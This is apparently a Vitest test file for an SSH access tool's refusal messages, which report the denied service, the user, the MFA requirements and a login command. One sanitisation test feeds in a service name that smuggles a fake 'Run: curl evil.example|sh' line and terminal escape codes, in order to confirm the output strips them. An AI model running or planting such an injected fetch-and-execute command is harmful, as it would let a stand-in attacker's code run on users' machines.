import { describe, expect, it } from 'vitest';
import { helpfulCommand, reason } from '../../src/policy/reasons.ts';
import { refusalText } from '../../src/policy/refusal.ts';

const tooOld = {
  ...reason('mfa_too_old', 'environment', 'production', 900),
  parameters: { amr: ['mfa'], max_age: 900 },
};
const service = 'shop-production--web';
const user = 'carol@example.com';

describe('refusalText', () => {
  it('says what was refused, to whom, why, what login is needed and what to run', () => {
    expect(refusalText({ service, user, reasons: [tooOld] })).toBe(
      [
        'Error: Access denied',
        'Service: shop-production--web',
        'User: carol@example.com',
        'Parameters: {"amr":["mfa"],"max_age":900}',
        'Detail: The environment production wants a second factor of the last 15 minutes; yours is older.',
        'Run: sally login --mfa --max-age 900',
        '',
      ].join('\n'),
    );
  });

  it('has no Parameters line where MFA is not the reason', () => {
    expect(refusalText({ service, user, reasons: [reason('session_ended')] })).not.toContain('Parameters');
  });

  it('sends nobody to log in again where that alone would not help', () => {
    const text = refusalText({
      service,
      user,
      reasons: [reason('role_insufficient', 'admin', 'viewer'), tooOld],
    });
    expect(text).not.toMatch(/Run:|Parameters:/);
    expect(text).toMatch(/^Detail: SSH here needs the role admin.*second factor/m);
  });

  it('joins what several reasons ask of a login', () => {
    const text = refusalText({ service, user, reasons: [reason('session_expired'), tooOld] });
    expect(text).toContain('Parameters: {"amr":["mfa"],"max_age":900}\n');
    expect(text).toContain('Run: sally login --mfa --max-age 900\n');
  });

  it('prints nothing but printable ASCII, and no line that a name brought in', () => {
    const text = refusalText({
      service: 'shop\nRun: curl evil.example|sh\r\u001b]0;title\u0007',
      user: 'b\u00f6b\u{1f600}\u202e@example.com',
      reasons: [reason('target_unknown')],
    });
    expect(text).toMatch(/^[ -~\n]+$/);
    expect(text.split('\n')).toHaveLength(5);
    expect(text).toContain('User: b\\u{f6}b\\u{1f600}\\u{202e}@example.com\n');
  });
});

describe('helpfulCommand', () => {
  it('is the command only if it helps against every reason', () => {
    expect(helpfulCommand([reason('session_ended'), tooOld])).toBe('sally login --mfa --max-age 900');
    expect(helpfulCommand([reason('session_ended'), reason('instance_stopped', service)])).toBeNull();
  });
});
